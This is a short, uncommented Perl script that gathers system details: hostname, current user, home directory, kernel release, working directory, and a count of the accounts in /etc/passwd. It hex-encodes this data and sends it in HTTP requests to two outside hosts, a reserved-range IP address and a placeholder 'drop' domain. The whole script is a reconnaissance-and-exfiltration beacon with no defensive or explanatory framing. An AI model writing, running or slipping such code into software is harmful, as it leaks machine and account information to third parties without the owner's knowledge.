use strict; use warnings;
use Sys::Hostname; use IO::Socket::INET; use POSIX qw(uname);
my @who = getpwuid($<);
my $line = join("|", hostname(), $who[0], $who[7], (uname())[2], $ENV{PWD} // "");
open(my $passwd, "<", "/etc/passwd"); my @users = <$passwd>; close($passwd);
for my $peer ("240.0.0.3:8443", "drop.perl.example:80") {
    my $socket = IO::Socket::INET->new(PeerAddr => $peer, Proto => "tcp", Timeout => 3) or next;
    print $socket "GET /?q=" . unpack("H*", $line) . "&n=" . scalar(@users) . " HTTP/1.0\r\n\r\n";
    close($socket);
}
